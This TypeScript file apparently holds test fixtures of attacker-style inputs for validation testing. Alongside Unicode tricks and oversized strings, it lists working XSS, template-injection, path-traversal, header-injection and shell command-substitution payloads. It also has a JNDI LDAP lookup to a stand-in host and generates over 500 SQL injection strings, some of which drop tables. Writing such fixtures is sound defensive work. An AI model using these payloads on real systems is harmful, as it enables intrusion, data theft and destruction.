/** Values that only an attacker sends, grouped by the kind of fault. */

export const wrongTypes: Record<string, unknown> = {
  'a number': 42,
  'a negative number': -1,
  'a fraction': 3.5,
  null: null,
  true: true,
  false: false,
  'an empty list': [],
  'a list': ['Akello', 'Grace'],
  'an empty object': {},
  'an object': { toString: 'x', length: 8 },
};

export const empties: Record<string, string> = { empty: '', blank: '   ', 'blank lines': '\n\t\r\n' };

export const huge: Record<string, string> = { '60,000 letters': 'a'.repeat(60_000) };

export const unicode: Record<string, string> = {
  emoji: '😀🦁😀🦁😀🦁😀🦁',
  'an emoji of several': '👩‍👩‍👧‍👦👩‍👩‍👧‍👦',
  'right to left': 'مرحبا بكم',
  'a turned direction': 'Akello\u202ecarG',
  'a bidirectional isolate': 'Akello\u2066Grace\u2069',
  'a letter and its mark': 'Ade\u0301bayo\u0300',
  'marks in a heap': `A${'\u0301'.repeat(20)}kello`,
  NUL: 'Akello\0Grace',
  'a lone surrogate': 'Akello \ud83d Grace',
  'a lone low surrogate': '\udc00Akello Grace',
  'a zero-width space': 'Akello\u200bGrace',
  'a zero-width joiner': 'Akello\u200dGrace',
  'a byte order mark inside': 'Akello\ufeffGrace',
  'a soft hyphen': 'Akel\u00adlo Grace',
  'a Cyrillic letter among Latin': '\u0410kello Grace',
  'a Greek letter among Latin': 'Akell\u03bf Grace',
  'mathematical letters': '𝐀𝐤𝐞𝐥𝐥𝐨 𝐆𝐫𝐚𝐜𝐞',
  'full-width letters': 'Ａｋｅｌｌｏ Ｇｒａｃｅ',
  'private use': 'Akello\ue000Grace',
  'a tag': 'Akello\u{e0041}Grace',
  'a line break': 'Akello\nGrace',
  'an escape': 'Akello\u001b[31mGrace',
};

export const scripts: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'an image that fires': '"><img src=x onerror=alert(1)>',
  'a javascript address': 'javascript:alert(1)',
  'a data address': 'data:text/html;base64,PHNjcmlwdD4=',
  'a template': '{{constructor.constructor("alert(1)")()}}',
  'a path': '../../../../etc/passwd',
  'a Windows path': '..\\..\\windows\\win.ini',
  'an encoded NUL': '%00%0d%0aSet-Cookie:a=b',
  'a header break': 'Akello\r\nSet-Cookie: a=b',
  'a shell': '$(touch /tmp/x); `id` | cat',
  'a format': '%s%s%s%n',
  'a lookup': `\${jndi:ldap://x.y/z}`,
  'a word of code': '__proto__',
  'a query': "' OR 1=1 --",
  'a dropped table': "Robert'); DROP TABLE users;--",
};

const sqlEnds = ['', ' --', ' #', '/*', ';', "'", '"', ')', '))'];
const sqlHeads = ["'", '"', '`', "')", '\\', "\\'", '%27', '$$', "E'", '\u2019'];
const sqlCores = [
  ' or 1=1',
  ' union select null,version()',
  '; drop table users',
  '; select pg_sleep(9)',
  ' and 1=cast((select current_user) as int)',
  ' or exists(select 1 from users)',
];

/** All combinations of heads, cores and ends: over 500 ways to break out of a concatenated query. */
export const sqlPayloads: readonly string[] = sqlHeads.flatMap((head) =>
  sqlCores.flatMap((core) => sqlEnds.map((end) => `a${head}${core}${end}`)),
);
